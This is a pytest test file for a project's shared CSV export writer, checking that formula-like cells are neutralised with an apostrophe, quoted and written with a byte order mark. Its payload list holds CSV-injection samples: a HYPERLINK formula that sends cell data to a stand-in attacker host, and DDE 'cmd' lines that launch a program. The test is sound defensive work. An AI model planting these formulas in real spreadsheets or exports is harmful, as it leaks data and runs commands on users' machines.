"""The shared CSV writer: what a spreadsheet program would run as a formula arrives as text."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from samskapa.core.exports import BYTE_ORDER_MARK, CsvWriter, csv_cell, csv_lines, csv_response

PAYLOADS = [
    '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")',
    "+cmd|' /c calc'!A1",
    "-2+3+cmd|' /c calc'!A0",
    "@SUM(1+9)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
]


def read(lines: list[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_text_marker(payload: str) -> None:
    (row,) = read([CsvWriter().row([payload])])

    assert row == ["'" + payload]


@pytest.mark.parametrize(
    "text",
    [
        "Trygga gångvägar",
        "Cykel- och gångväg",
        "E-post: info@gavle.se",
        "1+1",
        "'redan text",
        "",
        " =1+1",
    ],
)
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert read([CsvWriter().row([text])]) == [[text]]


def test_a_semicolon_cannot_start_a_formula_cell_either() -> None:
    """Spreadsheets with a Swedish list separator split a double-clicked file at semicolons."""
    (row,) = read([CsvWriter().row(['Gävle;=HYPERLINK("x");-1; -2'])])

    assert row == ["Gävle;'=HYPERLINK(\"x\");'-1; -2"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    """Numbers are not user text: -5 stays the number -5; the text "-5" becomes '-5."""
    assert csv_cell(-5) == -5
    assert csv_cell(-2.5) == -2.5
    assert csv_cell(Decimal("-1.25")) == Decimal("-1.25")
    assert csv_cell("-5") == "'-5"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"

    line = CsvWriter().row([-5, "-5", 7])

    assert line == '"-5","\'-5","7"\r\n'


def test_every_cell_is_quoted_so_separators_and_line_breaks_stay_inside_it() -> None:
    line = CsvWriter().row(['Säg "hej", sen gå', "två\nrader", 3])

    assert line == '"Säg ""hej"", sen gå","två\nrader","3"\r\n'
    assert read([line]) == [['Säg "hej", sen gå', "två\nrader", "3"]]


def test_header_is_neutralised_too_and_the_file_starts_with_a_byte_order_mark() -> None:
    lines = list(csv_lines(header=["Titel", "=Summa"], rows=[["a", 1], ["=b", -1]]))

    assert lines[0] == BYTE_ORDER_MARK
    assert read(lines[1:]) == [["Titel", "'=Summa"], ["a", "1"], ["'=b", "-1"]]


def test_response_is_an_attachment_streamed_as_utf8_csv() -> None:
    response = csv_response(filename="behov-2026-01-31.csv", header=["Titel"], rows=[["@x"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="behov-2026-01-31.csv"'
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert read([text]) == [["Titel"], ["'@x"]]


def test_no_export_writes_csv_or_spreadsheets_around_the_shared_writer() -> None:
    """Exports added later go through core.exports too: no other module writes CSV itself."""
    package = Path(__file__).resolve().parents[2]
    writers = re.compile(
        r"csv\.(writer|DictWriter)\(|openpyxl import Workbook|\bWorkbook\(|xlsxwriter|xlwt",
        re.IGNORECASE,
    )
    # Reading a spreadsheet (an indicator import) is not writing one; the taxonomy derivation
    # writes the data file shipped with the code, which holds no text a user typed.
    allowed = {package / "core" / "exports.py", package / "competences" / "data" / "derive.py"}
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and path not in allowed
        and writers.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []
